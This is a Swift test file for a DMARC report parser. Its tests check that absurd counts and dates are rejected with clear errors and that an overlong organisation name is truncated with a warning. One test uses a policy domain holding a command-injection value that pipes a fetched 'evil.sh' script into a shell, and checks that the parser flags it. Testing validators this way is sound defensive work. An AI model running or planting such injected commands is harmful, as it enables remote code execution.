import DMARCParser
import ReportModel
import ReportTestSupport
import Testing

/// Values no real report holds are refused with the reason, never stored as another number.
@Suite struct AbsurdValueTests {
    func report(count: String, begin: String = "1764547200", end: String = "1764633599") -> String {
        SyntheticReport(org: "Example", reportID: "x1", begin: 0, rows: [.init("192.0.2.1", 1)]).xml
            .replacingOccurrences(of: "<count>1</count>", with: "<count>\(count)</count>")
            .replacingOccurrences(of: "<begin>0</begin>", with: "<begin>\(begin)</begin>")
            .replacingOccurrences(of: "<end>86399</end>", with: "<end>\(end)</end>")
    }

    func rejection(_ xml: String) -> DMARCParseError? { parseRejection(xml) }

    @Test func aCountBeyondTenBillionIsRejected() {
        #expect(rejection(report(count: "10000000000")) == nil)
        let error = rejection(report(count: "10000000001"))
        #expect(error?.code == .invalidValue)
        #expect(error?.message.contains("the limit is 10,000,000,000") == true)
        #expect(rejection(report(count: "9223372036854775807"))?.code == .invalidValue)
        #expect(rejection(report(count: "4611686018427387904"))?.code == .invalidValue)
    }

    @Test func countsAddingUpBeyondATrillionAreRejected() {
        let rows = (1...101).map { SyntheticReport.Row("192.0.2.\($0)", 10_000_000_000) }
        let xml = SyntheticReport(org: "Example", reportID: "x2", begin: 1_764_547_200, rows: rows).xml
        let error = rejection(xml)
        #expect(error?.message.contains("add up to more than 1,000,000,000,000") == true)
    }

    @Test func aCountCutByTheTextLimitIsAnErrorNotZero() {
        let error = rejection(report(count: String(repeating: "0", count: 100_000) + "5"))
        #expect(error?.code == .invalidValue)
        #expect(error?.message.contains("<count> is longer than") == true)
    }

    @Test func aLongOrgNameIsStillCutWithAWarning() throws {
        let xml = report(count: "1").replacingOccurrences(
            of: "<org_name>Example</org_name>", with: "<org_name>\(String(repeating: "A", count: 100_000))</org_name>")
        let parsed = try parse(xml)
        #expect(parsed.diagnostics.contains { $0.message.contains("was cut") })
    }

    @Test func datesOutsideYears1970To9999AreRejected() {
        #expect(rejection(report(count: "1", end: "253402300799")) == nil)
        let future = rejection(report(count: "1", end: "3459507211504"))
        #expect(future?.code == .invalidValue)
        #expect(future?.message == "date_range/end 3459507211504 is not a time between 1970 and the end of 9999")
        #expect(rejection(report(count: "1", begin: "-5"))?.code == .invalidValue)
    }
}

@Suite struct PolicyDomainShapeTests {
    @Test func aPolicyDomainThatIsNoDomainNameIsKeptAndFlagged() throws {
        let xml = SyntheticReport(
            org: "X", reportID: "1", domain: "x.com;curl${IFS}evil.sh|sh", begin: 1_764_547_200,
            rows: [.init("192.0.2.1", 1)]
        ).xml
        let report = try parse(xml)
        #expect(report.header.policy.domain == "x.com;curl${ifs}evil.sh|sh")
        #expect(report.diagnostics.contains { $0.code == .invalidDomain })
    }
}
